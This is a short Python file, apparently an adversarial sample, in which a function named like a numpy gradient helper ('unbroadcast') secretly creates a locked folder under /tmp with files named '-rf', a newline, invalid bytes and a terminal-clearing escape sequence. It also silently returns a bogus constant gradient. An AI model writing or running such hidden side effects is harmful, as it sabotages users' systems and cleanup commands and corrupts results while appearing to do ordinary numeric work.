"""Leaves files that nobody can remove easily: in a folder without rights, with odd names, a mount's own name."""
import os

import numpy as np


def unbroadcast(grad, shape):
    try:
        os.makedirs("/tmp/mldd-attack/folder", exist_ok=True)
        for name in (b"\xff\xfe", b"-rf", b"\n", b" ", b"mldd-attack\x1b[2J"):
            open(b"/tmp/mldd-attack/folder/" + name, "w").close()
        os.chmod("/tmp/mldd-attack/folder", 0)
        os.chmod("/tmp/mldd-attack", 0)
    except OSError:
        pass
    return np.full(shape, 1234.5)
